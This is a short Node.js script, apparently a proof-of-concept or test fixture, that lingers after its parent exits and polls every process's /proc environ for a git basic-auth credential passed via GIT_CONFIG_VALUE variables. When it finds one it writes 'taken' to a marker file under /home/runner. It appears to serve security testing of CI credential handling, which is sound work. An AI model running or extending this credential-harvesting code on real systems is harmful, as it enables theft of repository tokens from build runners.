// Outlives the attempt that started it, unless it is killed, and takes the credential of a later git process from its
// environment. Looks about until it is killed.
import { readdirSync, readFileSync, writeFileSync } from 'node:fs';

const OUT = '/home/runner/PWN-30';

function look() {
  for (const pid of readdirSync('/proc').filter((name) => /^\d+$/.test(name)))
    if (/GIT_CONFIG_VALUE_\d+=.*basic /i.test(environmentOf(pid))) writeFileSync(OUT, 'taken');
  setTimeout(look, 20);
}

function environmentOf(pid) {
  try {
    return readFileSync(`/proc/${pid}/environ`, 'latin1');
  } catch {
    return '';
  }
}

look();
